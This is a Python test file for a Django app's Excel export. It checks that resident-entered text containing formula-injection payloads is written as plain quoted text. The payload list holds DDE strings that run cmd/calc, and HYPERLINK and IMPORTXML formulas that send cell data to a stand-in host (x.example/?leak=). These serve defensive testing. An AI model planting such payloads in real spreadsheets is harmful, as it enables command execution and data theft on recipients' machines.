"""Formula injection in Excel exports (issue 11, hole 7): text that a resident typed is written as
text, never as a live formula, by the one writer every export goes through (core/excel.py)."""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from gongzhi.core.excel import ColumnSpec, SheetSpec, build_workbook

# OWASP "CSV injection" payloads, with the tab / CR / LF / space and full-width variants.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?leak="&A1,"点这里")',
    '=IMPORTXML(CONCAT("http://x.example/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        )


def _written(rows, **column) -> tuple[bytes, list]:
    data = build_workbook([SheetSpec("表", [ColumnSpec("内容", **column)], rows)])
    sheet = load_workbook(io.BytesIO(data))["表"]
    return data, [row[0] for row in sheet.iter_rows(min_row=2)]


def test_every_payload_is_text_and_reads_back_exactly():
    data, cells = _written([[payload] for payload in PAYLOADS])
    assert "<f>" not in _sheet_xml(data)  # no formula anywhere in the file
    assert [cell.data_type for cell in cells] == ["s"] * len(PAYLOADS)
    # The user sees what the resident typed (XML reads a CR as a line feed, as Excel shows it).
    assert [cell.value for cell in cells] == [p.replace("\r", "\n") for p in PAYLOADS]
    # Excel keeps a quote-prefixed cell as text even when someone edits it (F2, Enter).
    assert all(cell.quotePrefix for cell in cells)


def test_text_columns_with_a_number_format_are_neutralised_too():
    data, cells = _written([["=1+1"], [Decimal("-12.50")]], number_format="0.00")
    assert "<f>" not in _sheet_xml(data)
    assert (cells[0].data_type, cells[0].value, cells[0].quotePrefix) == ("s", "=1+1", True)


def test_numbers_stay_numbers_and_plain_text_stays_plain():
    _data, cells = _written([[Decimal("-12.50")], [-3], [0.5], ["-"], ["普通文字"], ["a=b"]])
    assert [(c.data_type, c.value) for c in cells[:3]] == [("n", -12.5), ("n", -3), ("n", 0.5)]
    assert [c.value for c in cells[3:]] == ["-", "普通文字", "a=b"]
    # A lone "-" (an empty value shown as a dash) cannot start a formula: no style needed.
    assert [c.quotePrefix for c in cells[3:]] == [False, False, False]


def test_drop_down_choices_on_the_hidden_sheet_are_text():
    choices = [f"选项名称很长很长的第{i}项" for i in range(29)] + ['=HYPERLINK("http://x","y")']
    data = build_workbook([SheetSpec("表", [ColumnSpec("类别", choices=choices)], [])])
    assert "<f>" not in _sheet_xml(data)
    hidden = load_workbook(io.BytesIO(data))["选项A"]
    assert hidden["A30"].data_type == "s" and hidden["A30"].value == choices[-1]


def test_notes_sheet_is_neutralised():
    data = build_workbook(
        [SheetSpec("表", [ColumnSpec("列")], [])], notes=[["列名", "说明"], ["=1+1", "@SUM(A1)"]]
    )
    assert "<f>" not in _sheet_xml(data)


@pytest.mark.django_db
def test_a_problem_titled_with_a_formula_is_exported_as_text(as_user, world):
    from gongzhi.problems.services import category_defaults_ensure, problem_report

    category = category_defaults_ensure(street=world.street)[0]
    payload = '=HYPERLINK("http://x.example/?leak="&A1,"点击查看整改照片")'
    problem_report(
        actor=world.user("owner_a1"),
        estate=world.estate_a1,
        category=category,
        description=payload,
        location="@SUM(1+1)",
    )
    response = as_user("secretary_a").get(reverse("problems:export"))
    assert response.status_code == 200
    data = response.content
    assert re.search(r"<f>", _sheet_xml(data)) is None
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    values = {cell.value: cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
    assert values[payload] == "s"
    assert values["@SUM(1+1)"] == "s"
